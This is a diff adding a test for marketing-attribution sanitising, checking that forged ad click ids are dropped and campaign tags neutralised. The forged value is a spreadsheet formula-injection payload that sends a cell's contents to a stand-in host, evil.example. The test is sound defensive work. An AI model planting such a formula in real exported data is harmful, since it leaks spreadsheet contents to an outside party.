@@ -97,6 +97,33 @@ sanitising("without JavaScript, the post's same-origin Referer is the last touch
   assert.is(attributionFromReferer('not a url', origins, isSitePath, now), undefined);
 });
 
+sanitising('click ids are kept only in the characters their network issues; campaign tags stay as sent', () => {
+  const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  const real = {
+    gclid: 'Cj0KCQiA-_example_GCLID123',
+    gbraid: '0AAAAA-braid_1',
+    wbraid: 'CkEKCQiA-wbraid_2',
+    msclkid: '3f2b1c4d5e6f708192a3b4c5d6e7f809',
+    fbclid: 'IwZXh0bgNhZW0CMTEAAR0_aem_AbCd-Ef',
+    li_fat_id: '85929337-d448-42da-a095-0b3c5500fa50',
+    ttclid: 'E.C.P.CqgBexample-_1',
+  };
+  const kept = attributionFromBrowser({ first: { ...good, params: real } }, isSitePath, now)!;
+  assert.equal(kept.first?.params, real, 'ids as the networks issue them are kept exactly');
+
+  const forged = Object.fromEntries(Object.keys(real).map((p) => [p, formula]));
+  const tags = { utm_source: 'google', utm_medium: 'cpc', utm_campaign: formula };
+  const a = attributionFromBrowser({ first: { ...good, params: { ...forged, ...tags } } }, isSitePath, now)!;
+  assert.equal(a.first?.params, tags, 'every forged click id dropped; tags kept, neutralised where exported');
+  for (const bad of ['Cj0 KC', 'abc+def', 'abc/def=', 'abc"', "x'y", 'a|b', 'gclid.with.dots']) {
+    assert.is(attributionFromBrowser({ first: { ...good, params: { gclid: bad } } }, isSitePath, now)!.first?.params.gclid, undefined, bad);
+  }
+
+  const origins = ['https://www.laserfocus.example'];
+  const viaReferer = attributionFromReferer(`https://www.laserfocus.example/strategy/google-ads?gclid=${encodeURIComponent(formula)}&utm_source=google`, origins, isSitePath, now)!;
+  assert.equal(viaReferer.last?.params, { utm_source: 'google' }, 'the same without JavaScript');
+});
+
 sanitising('every allowlisted parameter is kept', () => {
   const params = Object.fromEntries(ATTRIBUTION_PARAMS.map((p) => [p, `v-${p}`]));
   const a = attributionFromBrowser({ first: { ...good, params } }, isSitePath, now)!;
